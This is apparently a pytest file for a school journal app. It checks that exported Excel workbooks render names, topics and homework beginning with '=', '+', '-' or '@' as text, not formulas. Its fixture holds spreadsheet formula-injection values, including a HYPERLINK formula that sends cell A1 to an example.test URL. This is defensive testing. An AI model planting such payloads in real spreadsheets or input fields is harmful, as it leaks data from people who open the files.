"""Text that starts with «=», «+», «-» or «@» never becomes a formula in any exported
workbook (issue 6, item 6): names, topics and homework typed by people go out as text."""
from __future__ import annotations

from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
from sqlmodel import select

from exporters import xlsx_journal
from models import Homework, Lesson, Student
from models.db import reading, transaction
from services.core import auth
from services.reports import (
    attestation as reports_attestation, changes as reports_changes, export as reports_export,
    journal as reports_journal, sheets as reports_sheets,
)
from services.reports.common import school_head
from tests.integration import readback, reports_world
from tests.integration.reports_world import NOV

MSK = ZoneInfo("Europe/Moscow")
EVIL_NAME = '=HYPERLINK("http://example.test/?x="&A1,"Нажми")'
EVIL_FIRST = "+7(900)"
EVIL_TOPIC = "-2+3 — отрицательные числа"
EVIL_HOMEWORK = "@SUM(1,2) упр. 5"


@pytest.fixture
def rw(db_url, frozen_clock):
    frozen_clock(datetime(2026, 11, 20, 12, 0, tzinfo=MSK))
    world = reports_world.build()
    with transaction() as tx:
        pupil = tx.get(Student, world.pupils["Алексеев"])
        pupil.last_name, pupil.first_name = EVIL_NAME, EVIL_FIRST
        tx.add(pupil)
        lesson = tx.get(Lesson, world.lessons[("5А", "math", 17)])
        lesson.topic = EVIL_TOPIC
        tx.add(lesson)
        tx.add(Homework(school_id=world.school_id, lesson_id=lesson.id, text=EVIL_HOMEWORK, entered_at=lesson_time()))
    return world


def lesson_time():
    return datetime(2026, 11, 17, 12, 0, tzinfo=MSK)


def cells(data: bytes) -> list:
    wb = readback.workbook(data)
    return [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def test_every_workbook_keeps_dangerous_text_as_text(rw):
    with reading() as tx:
        admin = auth.load_actor(tx, rw.users["admin"])
        head = school_head(tx, rw.school_id)
    name = f"{EVIL_NAME} {EVIL_FIRST}"
    books = {
        "attestation": reports_export.attestation_file(
            admin, reports_attestation.summary(admin, rw.school_id, column=f"period:{rw.q2}"), "xlsx").data,
        "weekly": reports_export.sheets_file(
            admin, reports_sheets.for_class(admin, rw.classes["5А"], NOV(9), NOV(20)), "xlsx").data,
        "class_report": reports_export.sheets_file(
            admin, reports_sheets.for_class(admin, rw.classes["5А"], NOV(9), NOV(20), kind="class_report"),
            "xlsx").data,
        "journal": xlsx_journal.journal_xlsx(reports_journal.load(
            admin, head, 2026, rw.year_id, reports_journal.JournalKey(rw.classes["5А"], rw.subjects["math"], None))),
    }
    for what, data in books.items():
        readback.no_formulas(data)
        values = cells(data)
        assert name in values, what
        for ws in readback.workbook(data).worksheets:  # every sheet: header frozen, widths set, a filter
            assert ws.freeze_panes and ws.auto_filter.ref, (what, ws.title)
            assert all(ws.column_dimensions[c].width for c in "AB"), (what, ws.title)
    assert EVIL_TOPIC in cells(books["weekly"]) and EVIL_TOPIC in cells(books["journal"])
    assert EVIL_HOMEWORK in cells(books["journal"])
    # the mark change report carries the name too
    from services.journal import grid as journal
    math = None
    with reading() as tx:
        math = auth.load_actor(tx, rw.users["math_t"])
    g = journal.load_grid(math, rw.classes["5А"], rw.subjects["math"], period_id=rw.q2, date_from=NOV(5),
                          date_to=NOV(28))
    label = next(c.label for c in g.columns if c.lesson_date == NOV(19))
    assert journal.save_cells(math, journal.diff(g, {(rw.pupils["Алексеев"], label): "О 5"})).ok
    data = reports_export.changes_file(admin, reports_changes.changes(admin, rw.school_id), "xlsx").data
    readback.no_formulas(data)
    assert name in cells(data)
    with reading() as tx:
        assert tx.exec(select(Homework.text)).all() == [EVIL_HOMEWORK]


def test_table_downloads_and_appended_workbooks_keep_dangerous_text_as_text():
    """Every «Скачать XLSX» of a screen (web.table_downloads → web.xlsx_bytes, written by pandas)
    and the workbooks filled with plain `append` (the coordinator's summary, ОО-1) go through
    xlsx_common.neutralise: text stays text, numbers stay numbers."""
    import pandas as pd
    from openpyxl import Workbook

    from exporters.xlsx_common import neutralise, to_bytes
    from ui import web
    frame = pd.DataFrame({"Ученик": [EVIL_NAME, EVIL_FIRST, "Борисова"], "Тема": [EVIL_TOPIC, EVIL_HOMEWORK, "ок"],
                          "Отметка": [5, 4, 3]})
    data = web.xlsx_bytes(frame, "Отметки")
    readback.no_formulas(data)
    ws = readback.workbook(data).active
    assert [c.value for c in ws["A"]][1:] == [EVIL_NAME, EVIL_FIRST, "Борисова"]
    assert [c.value for c in ws["C"]][1:] == [5, 4, 3]
    assert ws["A2"].quotePrefix and ws["B3"].quotePrefix and not ws["A4"].quotePrefix
    wb = Workbook()
    wb.active.append(["Школа", 1])
    wb.active.append([EVIL_NAME, 2.5])
    data = to_bytes(neutralise(wb))
    readback.no_formulas(data)
    assert readback.workbook(data).active["A2"].value == EVIL_NAME
